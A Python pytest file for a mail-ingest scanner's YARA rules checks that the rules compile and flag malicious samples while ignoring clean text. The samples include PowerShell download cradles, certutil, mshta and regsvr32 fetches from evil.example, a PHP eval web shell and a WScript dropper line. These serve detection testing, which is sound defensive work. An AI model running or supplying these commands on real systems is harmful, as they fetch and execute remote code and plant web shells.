"""The ``yara`` rule: shipped rules compile, load through the package, match and stay quiet."""

from __future__ import annotations

import pytest

from mailmoat.ingest.domain.checks import yara_rules
from tests.unit.ingest.checks.samples import part

SHIPPED = {"droppers", "js_obfuscation", "lolbins", "powershell", "webshells"}


def test_rule_files_are_found_through_the_package() -> None:
    assert {f.name.removesuffix(".yar") for f in yara_rules.rule_files()} == SHIPPED


def test_rules_compile_once() -> None:
    assert yara_rules.compiled_rules() is yara_rules.compiled_rules()


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        (
            b"powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"",
            "powershell_download_cradle",
        ),
        (b"powershell.exe -NoP -W Hidden -Exec Bypass -File a.ps1", "powershell_hidden_bypass"),
        (
            b"powershell -enc " + b"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA" * 2,
            "powershell_encoded_command",
        ),
        (b"cmd /c mshta http://evil.example/a.hta", "lolbin_mshta_remote"),
        (
            b"regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll",
            "lolbin_regsvr32_scriptlet",
        ),
        (
            b"certutil -urlcache -split -f http://evil.example/p.exe p.exe",
            "lolbin_certutil_download",
        ),
        (b"<script>eval(atob('YWxlcnQoMSk='))</script>", "js_eval_decoded"),
        (b"<?php eval($_POST['c']); ?>", "webshell_php_eval_request"),
        (
            b'Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c del x"',
            "dropper_wscript_shell_run",
        ),
    ],
)
def test_malicious_text_matches_its_rule(text: bytes, rule: str) -> None:
    findings = yara_rules.check(part(text, "payload.txt"))
    assert f"malware.yara.{rule}" in {f.code for f in findings}
    hit = next(f for f in findings if f.code == f"malware.yara.{rule}")
    assert hit.reason.startswith("YARA: ")
    assert 0 <= hit.start < hit.end <= len(text)


@pytest.mark.parametrize(
    "text",
    [
        b"Hi team, the quarterly report is attached. Please review before Friday.",
        b"Use PowerShell's Get-ChildItem to list files; see the docs at https://example.org.",
        b"<html><body><script>document.title = 'Newsletter';</script></body></html>",
        b"<?php echo htmlspecialchars($_GET['q']); ?>",
    ],
)
def test_clean_text_matches_nothing(text: bytes) -> None:
    assert yara_rules.check(part(text, "note.txt")) == []
